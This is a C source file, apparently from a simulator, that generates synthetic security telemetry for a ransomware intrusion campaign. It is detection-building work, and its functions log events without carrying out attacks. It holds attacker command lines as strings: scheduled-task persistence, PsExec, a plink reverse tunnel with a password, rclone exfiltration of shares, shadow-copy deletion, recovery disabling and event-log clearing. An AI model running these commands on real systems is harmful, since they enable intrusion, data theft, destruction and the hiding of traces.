/* actions_intrusion.c: the actions of hands-on intrusions as public incident reports tell
 * them (a disk-image lure and DLL side-loading, discovery bursts, LSASS read, PsExec,
 * tunnelled RDP, cloud uploads, shadow copies and backups, mass encryption, clean-up and
 * log clearing). Listed in camp_actions[] (actions.c); documented in docs/simulate.md. */
#include <stdio.h>
#include <stdlib.h>
#include <strings.h>

#include "simulate/campaign.h"

#define NEL(a) (sizeof(a) / sizeof((a)[0]))

static const char *const CMD = "C:\\Windows\\System32\\cmd.exe";

static bool ends_with(const char *s, const char *suf)
{
    size_t n = strlen(s), m = strlen(suf);
    return n >= m && strcasecmp(s + n - m, suf) == 0;
}

/* the process the actor's commands come from on a foothold: the installed implant */
static const char *implant_image(sim_ctx *x, const sim_user *u, char *buf, size_t cap)
{
    sim_campaign *c = x->camp;
    if (c->implant_path[0])
        snprintf(buf, cap, "%s", c->implant_path);
    else
        snprintf(buf, cap, "C:\\Users\\%s\\AppData\\Local\\Temp\\%s", u->name,
                 camp_tool_name(c, "implant", "update.exe"));
    return buf;
}

/* Where the actor's commands run: an account (its DOMAIN\\name) on a host, and the
 * implant's image there (for a foothold user at their workstation). */
typedef struct seat {
    uint32_t u, h;
    sim_user *us;
    sim_host *host;
    char user[48], impl[160];
} seat;

static seat seat_at(sim_ctx *x, uint32_t u, uint32_t h)
{
    seat d = {.u = u, .h = h, .us = &x->org.users[u], .host = &x->org.hosts[h]};
    sim_dom_user(x, d.us, d.user);
    implant_image(x, d.us, d.impl, sizeof d.impl);
    return d;
}

/* A user at their own workstation. */
static seat seat_desk(sim_ctx *x, uint32_t u)
{
    return seat_at(x, u, x->org.users[u].ws);
}

/* The step's truth names the account and the host. */
static void seat_touched(sim_step *s, const seat *d)
{
    camp_touch_user(s, d->u);
    camp_touch_host(s, d->h);
}

/* The side-loading pair lives in C:\\ProgramData\\FOLDER; the playbook's host tool is named
 * "FOLDER\\program.exe" (the scheduled task takes the folder's name). */
static void sideload_paths(const sim_campaign *c, char *dir, char *task, char *host, char *dll, size_t cap)
{
    const char *h = camp_tool_name(c, "host", "Microsoft\\colorcpl.exe");
    const char *bs = strchr(h, '\\');
    snprintf(task, cap, "%.*s", bs ? (int)(bs - h) : 9, bs ? h : "Microsoft");
    snprintf(dir, cap, "C:\\ProgramData\\%s", task);
    snprintf(host, cap, "%s\\%s", dir, bs ? bs + 1 : h);
    snprintf(dll, cap, "%s\\%s", dir, camp_tool_name(c, "dll", "colorui.dll"));
}

/* ---------------------------------------------------------------- initial access */

/* A recruiter's (or an invoice's) mail carrying the lure: a disk image or an archive. */
void act_lure_mail(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
{
    sim_campaign *c = x->camp;
    sim_org *o = &x->org;
    uint32_t u = c->targets[k % c->ntargets];
    const char *lure = camp_tool_name(c, "lure", "Job_Description.iso");
    bool job = c->sender_name[0] != 0;
    static const char *const first[] = {"Emily", "Daniel", "Sophie", "Ryan"};
    char from[96], to[96], helo[96], msgid[96], name[80], text[400];
    snprintf(from, sizeof from, "%s.%s@%s", job ? "talent" : "billing", job ? "acquisition" : "dept",
             c->lookalike);
    snprintf(to, sizeof to, "%s@%s", o->users[u].name, o->domain);
    snprintf(helo, sizeof helo, "mail.%s", c->lookalike);
    if (job)
        snprintf(name, sizeof name, "%s (%s)", first[k % NEL(first)], c->sender_name);
    else
        snprintf(name, sizeof name, "Accounts Receivable");
    if (job)
        snprintf(text, sizeof text,
                 "Dear %s, following our conversation on LinkedIn I am pleased to share the job description "
                 "and the skills assessment for the senior position. Please open the attached package on a "
                 "Windows computer and complete the assessment before our call.",
                 o->users[u].first);
    else
        snprintf(
            text, sizeof text,
            "Hello %s, please see the attached remittance for invoice past due. Kindly review and confirm "
            "payment today to avoid late fees.",
            o->users[u].first);
    sim_mail m = {.ts = t,
                  .from_name = name,
                  .from_addr = from,
                  .to_addr = to,
                  .subject = job ? "Job opportunity: skills assessment and job description"
                                 : "RE: overdue invoice - remittance attached",
                  .helo = helo,
                  .src_ip = c->lookalike_ip,
                  .inbound = true,
                  .spf = "pass",
                  .dkim = "pass",
                  .dmarc = "none",
                  .text = text,
                  .attach_name = lure,
                  .attach_len = 150000 + sim_below(&x->crng, 40000)};
    sim_mail_write(x, &m, msgid);
    camp_touch_user(s, u);
    camp_touch_host(s, o->mail);
}

/* The recipient saves the attachment, mounts the image and starts what is in it: a program
 * (which then drops a signed program, a DLL beside it and a scheduled task), or a DLL run
 * by rundll32 from a shortcut. */
void act_open_attachment(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
{
    sim_campaign *c = x->camp;
    seat d = seat_desk(x, c->targets[k % c->ntargets]);
    sim_host *ws = d.host;
    const char *user = d.user;
    if (c->np0 < NEL(c->p0))
        c->p0[c->np0++] = d.u;
    camp_own(c, d.h);
    const char *lure = camp_tool_name(c, "lure", "Job_Description.iso");
    const char *loader = camp_tool_name(c, "loader", "setup.exe");
    const char *outlook = "C:\\Program Files (x86)\\Microsoft Office\\Office15\\OUTLOOK.EXE";
    char path[200], img[160], cmd[400], hashes[160];
    snprintf(path, sizeof path,
             "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\%08X\\%s",
             d.us->name, (unsigned)(sim_next(&x->crng) & 0xffffffff), lure);
    sim_sm_file(x, ws, t, user, outlook, path);
    camp_tool_hashes(c, "loader", hashes, sizeof hashes);
    int64_t t1 = t + (int64_t)(20 + sim_below(&x->crng, 60)) * SIM_US;
    if (ends_with(loader, ".dll")) { /* a shortcut in the image runs the DLL */
        snprintf(img, sizeof img, "E:\\%s", loader);
        snprintf(cmd, sizeof cmd, "\"C:\\Windows\\System32\\rundll32.exe\" %s,DllRegisterServer", img);
        sim_sm_process(x, ws, t1, user, "C:\\Windows\\System32\\rundll32.exe", cmd,
                       "C:\\Windows\\explorer.exe", NULL);
        snprintf(c->implant_path, sizeof c->implant_path, "C:\\Windows\\System32\\rundll32.exe");
        sim_sm_image_load(x, ws, t1 + SIM_US / 2, user, c->implant_path, img, hashes, NULL);
    } else {
        snprintf(img, sizeof img, "E:\\%s", loader);
        snprintf(cmd, sizeof cmd, "\"%s\"", img);
        sim_sm_process(x, ws, t1, user, img, cmd, "C:\\Windows\\explorer.exe", hashes);
        const char *host = camp_tool_name(c, "host", NULL), *dll = camp_tool_name(c, "dll", NULL);
        if (host && dll) { /* the signed program and its DLL, and a task to start them daily */
            char dir[160], task[160], p1[160], p2[160];
            sideload_paths(c, dir, task, p1, p2, sizeof p1);
            sim_sm_file(x, ws, t1 + 4 * SIM_US, user, img, p1);
            sim_sm_file(x, ws, t1 + 4 * SIM_US + 300000, user, img, p2);
            snprintf(cmd, sizeof cmd,
                     "schtasks.exe /CREATE /SC DAILY /MO 1 /ST 10:30 /TN %.40s /TR "
                     "\"C:\\Windows\\system32\\cmd.exe "
                     "/c start /min %.150s %08X\" /F",
                     task, p1, (unsigned)(sim_mix(x->seed) & 0xffffffff));
            sim_sm_process(x, ws, t1 + 6 * SIM_US, user, "C:\\Windows\\System32\\schtasks.exe", cmd, img,
                           NULL);
            snprintf(c->implant_path, sizeof c->implant_path, "%s", p1);
        } else {
            snprintf(c->implant_path, sizeof c->implant_path, "%s", img);
        }
    }
    seat_touched(s, &d);
}

/* The signed program started (by its task) loads the unsigned DLL planted beside it. */
void act_sideload(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
{
    sim_campaign *c = x->camp;
    seat d = seat_desk(x, c->np0 ? c->p0[k % c->np0] : camp_p0_user(x));
    sim_host *ws = d.host;
    const char *user = d.user;
    char dir[160], task[160], img[160], dllp[160], cmd[300], hashes[160], uid[20];
    sideload_paths(c, dir, task, img, dllp, sizeof img);
    snprintf(cmd, sizeof cmd, "%s %08X", img, (unsigned)(sim_mix(x->seed) & 0xffffffff));
    camp_tool_hashes(c, "host", hashes, sizeof hashes);
    sim_sm_process(x, ws, t, user, img, cmd, CMD, hashes);
    sim_sm_image_load(x, ws, t + 40000, user, img, "C:\\Windows\\System32\\mscms.dll", "MD5=-",
                      "Microsoft Windows");
    camp_tool_hashes(c, "dll", hashes, sizeof hashes);
    sim_sm_image_load(x, ws, t + 60000, user, img, dllp, hashes, NULL);
    if (c->nc2) { /* the first call home over HTTPS */
        const camp_c2 *srv = &c->c2[k % c->nc2];
        sim_sm_netconn(x, ws, t + 2 * SIM_US, user, img, srv->ip, srv->port, NULL);
        sim_tls(x, t + 2 * SIM_US, ws->ip, srv->ip, srv->port, NULL, 2400, 5200, 2 * SIM_US, uid);
    }
    snprintf(c->implant_path, sizeof c->implant_path, "%s", img);
    seat_touched(s, &d);
}

/* ---------------------------------------------------------------- discovery */

/* A burst of reconnaissance commands from the implant's shell within minutes. With a
 * "recon" tool (AdFind), the directory is dumped too. */
void act_discovery(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
{
    sim_campaign *c = x->camp;
    sim_org *o = &x->org;
    seat d = seat_desk(x, camp_p0_user(x));
    sim_host *ws = d.host;
    const char *user = d.user;
    char cmd[300], img[160], pdc[96];
    snprintf(pdc, sizeof pdc, "%s", o->ad);
    static const char *const base[][2] = {
        {"whoami.exe", "whoami /all"},
        {"net.exe", "net group \"Domain Admins\" /domain"},
        {"nltest.exe", "nltest /dclist:%s"},
        {"nltest.exe", "nltest /domain_trusts /all_trusts"},
        {"net.exe", "net group \"Domain Computers\" /domain"},
        {"systeminfo.exe", "systeminfo"},
        {"ipconfig.exe", "ipconfig /all"},
        {"net.exe", "net view /all /domain"},
        {"tasklist.exe", "tasklist /v"},
        {"net.exe", "net user %s /domain"},
        {"quser.exe", "quser"},
        {"net.exe", "net localgroup administrators"},
    };
    sim_sm_process(x, ws, t, user, CMD, "C:\\Windows\\system32\\cmd.exe", d.impl, NULL);
    uint32_t n = 5 + sim_below(&x->crng, 3);
    int64_t at = t;
    for (uint32_t i = 0; i < n; i++) {
        const char *const *b = base[(k * 5 + i) % NEL(base)];
        at += (int64_t)(4 + sim_below(&x->crng, 40)) * SIM_US;
        snprintf(cmd, sizeof cmd, b[1], strstr(b[1], "dclist") ? pdc : o->users[c->admin].name);
        snprintf(img, sizeof img, "C:\\Windows\\System32\\%s", b[0]);
        sim_sm_process(x, ws, at, user, img, cmd, CMD, NULL);
    }
    const camp_tool *ad = camp_tool_of(c, "recon");
    if (ad) {
        static const char *const q[] = {"-f \"(objectcategory=person)\" > ad_users.txt",
                                        "-f \"objectcategory=computer\" > ad_computers.txt",
                                        "-gcb -sc trustdmp > trustdmp.txt", "-sc dclist > dclist.txt"};
        char hashes[160];
        camp_tool_hashes(c, "recon", hashes, sizeof hashes);
        snprintf(img, sizeof img, "C:\\Users\\%s\\AppData\\Local\\Temp\\%s", d.us->name, ad->name);
        for (uint32_t i = 0; i < NEL(q); i++) {
            at += (int64_t)(3 + sim_below(&x->crng, 10)) * SIM_US;
            snprintf(cmd, sizeof cmd, "%s %s", ad->name, q[i]);
            sim_sm_process(x, ws, at, user, img, cmd, CMD, hashes);
        }
    }
    seat_touched(s, &d);
}

/* ---------------------------------------------------------------- credentials */

/* LSASS memory read from the implant (Sysmon 10, the access mask of sekurlsa-style
 * readers and a call trace through unbacked memory); the administrator's password taken
 * is tried at once (4648). */
void act_lsass_read(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
{
    sim_campaign *c = x->camp;
    sim_org *o = &x->org;
    seat d = seat_desk(x, camp_p0_user(x));
    char trace[300];
    uint64_t r = sim_next(&x->crng);
    snprintf(
        trace, sizeof trace,
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(%016llX)|"
        "UNKNOWN(%016llX)",
        (unsigned long long)(0x1a0000000ULL + (r & 0xfffffff)),
        (unsigned long long)(0x1a0000000ULL + ((r >> 28) & 0xfffffff)));
    sim_sm_process_access(x, d.host, t, d.user, d.impl, "C:\\Windows\\system32\\lsass.exe",
                          k % 2 ? "0x1FFFFF" : "0x1010", trace);
    sim_ev_explicit(x, d.host, t + (int64_t)(60 + sim_below(&x->crng, 600)) * SIM_US, d.us,
                    o->users[c->admin].name, o->hosts[o->dcs[0]].fqdn, CMD);
    seat_touched(s, &d);
    camp_touch_user(s, c->admin);
}

/* ---------------------------------------------------------------- lateral movement */

/* PsExec with the stolen administrator: ADMIN$ written, PSEXESVC installed and run. */
void act_psexec(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
{
    sim_campaign *c = x->camp;
    sim_org *o = &x->org;
    uint32_t from = camp_from_host(x), to = camp_new_target(x);
    sim_host *src = &o->hosts[from], *dst = &o->hosts[to];
    sim_user *a = &o->users[c->admin];
    char uid[20], user[48], cmd[300], srcuser[48];
    const char *pse = camp_tool_name(c, "psexec", "PsExec64.exe");
    char pimg[160];
    snprintf(pimg, sizeof pimg, "C:\\Users\\Public\\%s", pse);
    sim_dom_user(x, a, user);
    snprintf(srcuser, sizeof srcuser, "%s", user);
    snprintf(cmd, sizeof cmd, "%s \\\\%s -accepteula -s -d cmd.exe /c \"C:\\Windows\\Temp\\%s\"", pse,
             dst->name, camp_tool_name(c, "implant", "update.exe"));
    sim_sm_process(x, src, t, srcuser, pimg, cmd, CMD, NULL);
    sim_ev_explicit(x, src, t + 200000, a, a->name, dst->fqdn, pimg);
    sim_ntlm(x, t + SIM_US / 2, src->ip, dst, a->name, true);
    sim_smb_map(x, t + SIM_US, src->ip, dst, "ADMIN$", uid);
    sim_ev_logon(x, dst, t + SIM_US + 20000, a, 3, src->ip, src->nb, 0x6100000 + k, true);
    sim_sm_file(x, dst, t + 2 * SIM_US, "NT AUTHORITY\\SYSTEM", "System", "C:\\Windows\\PSEXESVC.exe");
    sim_smb_map(x, t + 2 * SIM_US, src->ip, dst, "IPC$", uid);
    sim_ev_service(x, dst, t + 3 * SIM_US, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "user mode service",
                   NULL);
    snprintf(cmd, sizeof cmd, "cmd.exe /c \"C:\\Windows\\Temp\\%s\"",
             camp_tool_name(c, "implant", "update.exe"));
    sim_sm_process(x, dst, t + 4 * SIM_US, "NT AUTHORITY\\SYSTEM", CMD, cmd, "C:\\Windows\\PSEXESVC.exe",
                   NULL);
    camp_own(c, to);
    camp_touch_host(s, from);
    camp_touch_host(s, to);
    camp_touch_user(s, c->admin);
}

/* RDP carried through an SSH tunnel the implant host opens to the actor's server (plink
 * -R): the target sees RDP from the foothold, from a workstation name that is not the
 * organisation's. */
void act_rdp_tunnel(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
{
    sim_campaign *c = x->camp;
    sim_org *o = &x->org;
    seat d = seat_desk(x, camp_p0_user(x));
    uint32_t to = camp_new_target(x);
    sim_host *src = d.host, *dst = &o->hosts[to];
    sim_user *a = &o->users[c->admin];
    const camp_c2 *srv = c->nc2 ? &c->c2[k % c->nc2] : NULL;
    uint32_t c2ip = srv ? srv->ip : sim_hosting_addr(&x->crng, NULL);
    uint16_t c2port = srv ? srv->port : 443;
    char cmd[300], img[160], ipt[16], c2t[16], uid[20];
    const char *tun = camp_tool_name(c, "tunnel", "plink.exe");
    snprintf(img, sizeof img, "C:\\ProgramData\\%s", tun);
    sim_fmt_ip4(ipt, dst->ip);
    sim_fmt_ip4(c2t, c2ip);
    snprintf(cmd, sizeof cmd, "%s -batch -ssh -P %u -l support -pw Xq7!pT2 -R 127.0.0.1:%u:%s:3389 %s", tun,
             (unsigned)c2port, 13389 + k % 50, ipt, c2t);
    sim_sm_process(x, src, t, d.user, img, cmd, CMD, NULL);
    int64_t dur = (int64_t)(30 + sim_below(&x->crng, 90)) * SIM_MIN;
    uint64_t bytes = 3000000 + sim_below(&x->crng, 20000000);
    sim_conn tc = {t + SIM_US,
                   dur + 2 * SIM_MIN,
                   src->ip,
                   c2ip,
                   (uint16_t)(49152 + sim_below(&x->crng, 16000)),
                   c2port,
                   "tcp",
                   "ssh",
                   bytes / 6,
                   bytes,
                   "SF",
                   0};
    sim_net_conn(x, &tc, uid);
    sim_rdp(x, t + 40 * SIM_US, src->ip, dst, a->name, dur, bytes, uid);
    /* RDP into the target with the actor's own machine name */
    static const char *const names[] = {"DESKTOP-9C4K1TN", "WIN-R8U2QHL0D3A", "DESKTOP-HBM2Q7J"};
    sim_ev_logon(x, dst, t + 42 * SIM_US, a, 10, src->ip, names[k % NEL(names)], 0x6200000 + k, true);
    camp_own(c, to);
    seat_touched(s, &d);
    camp_touch_host(s, to);
    camp_touch_user(s, c->admin);
}

/* ---------------------------------------------------------------- exfiltration */

/* Staged archives (or whole shares, with rclone) uploaded to a cloud storage service from
 * the staging server with a command-line client. */
void act_cloud_exfil(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
{
    sim_campaign *c = x->camp;
    sim_org *o = &x->org;
    seat d = seat_at(x, c->admin, c->stage);
    sim_host *st = d.host;
    const char *user = d.user;
    const char *host = c->cloud[0] ? c->cloud : "content.dropboxapi.com";
    bool mega = strstr(host, "mega") != NULL;
    uint32_t ip = mega ? 0x592ca900 + 20 + k % 40 : 0xa27d0100 + 10 + k % 20; /* MEGA 89.44.169.x, Dropbox */
    const char *up = camp_tool_name(c, "uploader", "rclone.exe");
    bool rclone = strstr(up, "rclone") != NULL;
    char img[160], cmd[300], uid[20];
    snprintf(img, sizeof img, "C:\\Windows\\Temp\\%s", up);
    if (rclone)
        snprintf(cmd, sizeof cmd,
                 "%s copy \\\\%s\\D$\\Shares remote:backup -q --ignore-existing --auto-confirm "
                 "--multi-thread-streams "
                 "12 --transfers 12",
                 up, o->hosts[o->fs[k % o->nfs]].name);
    else
        snprintf(cmd, sizeof cmd, "%s put C:\\Windows\\Temp\\~DF%04X.tmp.part%u.rar /upload/%u.rar", up,
                 (unsigned)(sim_mix(x->seed) & 0xffff), k % 3 + 1, k);
    sim_sm_process(x, st, t, user, img, cmd, CMD, NULL);
    sim_sm_dns(x, st, t + 100000, user, img, host, ip);
    sim_dns(x, t + 100000, st->ip, host, ip, uid);
    uint64_t bytes = (uint64_t)(s->gb * 1e9 / s->count * (0.6 + 0.8 * sim_unit(&x->crng)));
    sim_sm_netconn(x, st, t + 200000, user, img, ip, 443, host);
    sim_tls(x, t + 200000, st->ip, ip, 443, host, bytes, bytes / 300 + 5000,
            (int64_t)(bytes / 6000000 + 1) * SIM_US, uid);
    seat_touched(s, &d);
}

/* ---------------------------------------------------------------- impact */

/* Shadow copies deleted and recovery switched off, host by host. */
void act_shadow_delete(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
{
    uint32_t h = camp_wave_host(x, k);
    sim_host *d = &x->org.hosts[h];
    const char *sys = "NT AUTHORITY\\SYSTEM";
    sim_sm_process(x, d, t, sys, "C:\\Windows\\System32\\vssadmin.exe",
                   "vssadmin.exe delete shadows /all /quiet", CMD, NULL);
    sim_sm_process(x, d, t + 3 * SIM_US, sys, "C:\\Windows\\System32\\wbem\\WMIC.exe",
                   "wmic.exe shadowcopy delete /nointeractive", CMD, NULL);
    sim_sm_process(x, d, t + 5 * SIM_US, sys, "C:\\Windows\\System32\\bcdedit.exe",
                   "bcdedit.exe /set {default} recoveryenabled No", CMD, NULL);
    camp_touch_host(s, h);
}

/* Backup and database services stopped before encryption: the backup server first. */
void act_stop_services(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
{
    sim_campaign *c = x->camp;
    sim_org *o = &x->org;
    seat d = seat_at(x, c->admin, k == 0 ? o->backup : o->sqls[(k - 1) % o->nsql]);
    static const char *const svc[][3] = {
        {"VeeamBackupSvc", "Veeam Backup Service", "net.exe stop \"VeeamBackupSvc\" /y"},
        {"VeeamDeploySvc", "Veeam Installer Service", "net.exe stop \"VeeamDeploySvc\" /y"},
        {"MSSQLSERVER", "SQL Server (MSSQLSERVER)", "net.exe stop \"MSSQLSERVER\" /y"},
        {"SQLSERVERAGENT", "SQL Server Agent (MSSQLSERVER)", "net.exe stop \"SQLSERVERAGENT\" /y"},
    };
    for (uint32_t i = k == 0 ? 0 : 2; i < (k == 0 ? 2u : 4u); i++) {
        int64_t ti = t + (int64_t)i * 4 * SIM_US;
        sim_sm_process(x, d.host, ti, d.user, "C:\\Windows\\System32\\net.exe", svc[i][2], CMD, NULL);
        sim_ev_service_state(x, d.host, ti + 2 * SIM_US, svc[i][1], "stopped");
    }
    seat_touched(s, &d);
}

/* The encryptor on one host: started by SYSTEM, files rewritten under the ransom extension
 * (originals deleted) and a ransom note in every folder it walks. */
void act_encrypt(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
{
    sim_campaign *c = x->camp;
    uint32_t h = camp_wave_host(x, k);
    sim_host *d = &x->org.hosts[h];
    const char *bin = camp_tool_name(c, "ransomware", "locker.exe");
    const char *note = camp_tool_name(c, "note", "readme.txt");
    const char *ext = c->ransom_ext[0] ? c->ransom_ext : ".locked";
    const char *sys = "NT AUTHORITY\\SYSTEM";
    char img[160], cmd[200], hashes[160], path[200];
    snprintf(img, sizeof img, "C:\\Windows\\Temp\\%s", bin);
    snprintf(cmd, sizeof cmd, "%s -forcepath C:\\", img);
    camp_tool_hashes(c, "ransomware", hashes, sizeof hashes);
    sim_sm_process(x, d, t, sys, img, cmd, "C:\\Windows\\PSEXESVC.exe", hashes);
    static const char *const dirs[] = {"C:\\Users\\Public\\Documents", "D:\\Shares\\Finance",
                                       "D:\\Shares\\Production", "C:\\ProgramData\\Backup"};
    static const char *const exts[] = {"docx", "xlsx", "pdf", "mov", "psd", "bak"};
    int64_t at = t + SIM_US;
    for (uint32_t dn = 0; dn < NEL(dirs); dn++) {
        snprintf(path, sizeof path, "%s\\%s", dirs[dn], note);
        sim_sm_file(x, d, at, sys, img, path);
        for (uint32_t i = 0; i < 8; i++) {
            at += 40000 + sim_below(&x->crng, 60000);
            char orig[160];
            snprintf(orig, sizeof orig, "%s\\%04u_%08x.%s", dirs[dn], dn * 8 + i,
                     (unsigned)(sim_next(&x->crng) & 0xffffffff), exts[(dn + i) % NEL(exts)]);
            snprintf(path, sizeof path, "%s%s", orig, ext);
            sim_sm_file(x, d, at, sys, img, path);
            sim_sm_delete(x, d, at + 2000, sys, img, orig, false);
        }
    }
    camp_touch_host(s, h);
}

/* ---------------------------------------------------------------- defence evasion */

/* The tools and archives the actor left are deleted (and its service removed). */
void act_cleanup(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
{
    sim_campaign *c = x->camp;
    sim_org *o = &x->org;
    seat w = seat_at(x, c->admin, k % 2 == 0 ? c->stage : o->users[camp_p0_user(x)].ws);
    sim_host *d = w.host;
    const char *user = w.user;
    char p[200];
    unsigned tag = (unsigned)(sim_mix(x->seed) & 0xffff);
    if (k % 2 == 0) {
        sim_sm_process(x, d, t, user, CMD, "cmd.exe /c del /f /q C:\\Windows\\Temp\\~DF*.rar", CMD, NULL);
        for (int i = 0; i < 3; i++) {
            snprintf(p, sizeof p, "C:\\Windows\\Temp\\~DF%04X.tmp.part%d.rar", tag, i + 1);
            sim_sm_delete(x, d, t + (int64_t)(i + 1) * 100000, user, CMD, p, true);
        }
        snprintf(p, sizeof p, "C:\\Windows\\Temp\\%s", camp_tool_name(c, "uploader", "rclone.exe"));
        sim_sm_delete(x, d, t + SIM_US, user, CMD, p, true);
        snprintf(p, sizeof p, "C:\\Windows\\Temp\\%s", camp_tool_name(c, "archiver", "rar.exe"));
        sim_sm_delete(x, d, t + SIM_US + 100000, user, CMD, p, true);
    } else {
        snprintf(p, sizeof p, "C:\\ProgramData\\%s", camp_tool_name(c, "tunnel", "plink.exe"));
        sim_sm_process(x, d, t, user, CMD, "cmd.exe /c del /f /q C:\\ProgramData\\*.exe", CMD, NULL);
        sim_sm_delete(x, d, t + 100000, user, CMD, p, true);
        sim_sm_process(x, d, t + 2 * SIM_US, user, "C:\\Windows\\System32\\sc.exe",
                       "sc.exe delete WinsSchMgmt", CMD, NULL);
    }
    seat_touched(s, &w);
}

/* Event logs cleared with wevtutil on the hosts the actor holds (Security 1102, System 104). */
void act_clear_logs(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
{
    sim_campaign *c = x->camp;
    sim_org *o = &x->org;
    seat d = seat_at(x, c->admin, c->nowned ? c->owned[k % c->nowned] : o->users[camp_p0_user(x)].ws);
    static const char *const chans[] = {"Security", "System", "Microsoft-Windows-PowerShell/Operational"};
    for (uint32_t i = 0; i < NEL(chans); i++) {
        char cmd[120];
        int64_t ti = t + (int64_t)i * 2 * SIM_US;
        snprintf(cmd, sizeof cmd, "wevtutil.exe cl \"%s\"", chans[i]);
        sim_sm_process(x, d.host, ti, d.user, "C:\\Windows\\System32\\wevtutil.exe", cmd, CMD, NULL);
        if (i < 2)
            sim_ev_log_cleared(x, d.host, ti + 300000, d.us, chans[i]);
    }
    seat_touched(s, &d);
}
